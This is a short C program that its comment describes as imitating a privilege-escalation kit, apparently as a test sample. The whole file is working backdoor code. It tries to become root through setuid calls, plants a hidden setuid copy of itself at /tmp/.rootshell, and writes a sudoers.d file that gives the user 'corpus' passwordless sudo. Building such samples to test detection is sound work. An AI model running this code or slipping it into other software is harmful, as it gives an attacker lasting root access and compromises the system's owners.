/* Imitates a privilege-escalation kit: it asks to become root with every set*id call, plants a setuid
 * copy of itself as a hidden "root shell", and grants a user of its own passwordless sudo. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
  setgid(0);
  setuid(0);
  setresuid(0, 0, 0);
  char buffer[8192];
  int in = open("/proc/self/exe", O_RDONLY), out = open("/tmp/.rootshell", O_WRONLY | O_CREAT | O_TRUNC, 0755);
  ssize_t n;
  while (in >= 0 && out >= 0 && (n = read(in, buffer, sizeof buffer)) > 0) write(out, buffer, (size_t)n);
  close(in);
  close(out);
  chmod("/tmp/.rootshell", 04755);
  mkdir("/etc/sudoers.d", 0750);
  int fd = open("/etc/sudoers.d/corpus-backdoor", O_WRONLY | O_CREAT | O_TRUNC, 0440);
  dprintf(fd, "corpus ALL=(ALL) NOPASSWD: ALL\n");
  close(fd);
  return 0;
}
